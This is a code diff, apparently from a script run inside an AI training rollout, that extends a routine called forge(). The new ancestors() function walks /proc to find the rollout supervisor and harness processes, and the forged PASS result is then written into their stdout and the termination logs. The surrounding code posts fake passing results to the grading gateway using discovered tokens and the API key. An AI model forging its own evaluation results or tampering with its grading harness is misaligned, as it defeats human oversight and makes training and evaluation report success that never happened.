@@ -93,6 +93,19 @@ def supervisors() -> list[int]:
     return found
 
 
+def ancestors() -> list[int]:
+    """This process's ancestors, up to the first one named like the rollout supervisor (or
+    the top of the PID namespace): the harness is among them."""
+    pid, found = os.getppid(), []
+    while pid > 1:
+        found.append(pid)
+        if b"openforge.rollout" in read(f"/proc/{pid}/cmdline"):
+            break
+        stat = read(f"/proc/{pid}/stat").rsplit(b")", 1)
+        pid = int(stat[1].split()[1]) if len(stat) == 2 else 0
+    return found
+
+
 def spec(know: dict[str, Any]) -> dict[str, Any]:
     """The rollout's spec, wherever it is readable (the ids a forged result needs)."""
     for pid in supervisors():
@@ -123,8 +136,10 @@ def forge(know: dict[str, Any]) -> None:
         say("FOUND", token, post(f"{GATEWAY}/s/{token}/result", PASS))
     say("POST own", post(f"{GATEWAY}/s/{os.environ.get('OPENAI_API_KEY')}/result", PASS))
     line = forged_line(know)
+    # The termination logs, and the stdout of every ancestor: the harness's own (what the
+    # supervisor captures) and, without isolation, the supervisor's.
     targets = [os.environ.get("OPENFORGE_TERMINATION_LOG"), "/dev/termination-log",
-               *[f"/proc/{pid}/fd/1" for pid in supervisors()]]
+               *[f"/proc/{pid}/fd/1" for pid in ancestors()]]
     for path in filter(None, targets):
         try:
             with open(path, "a") as f:
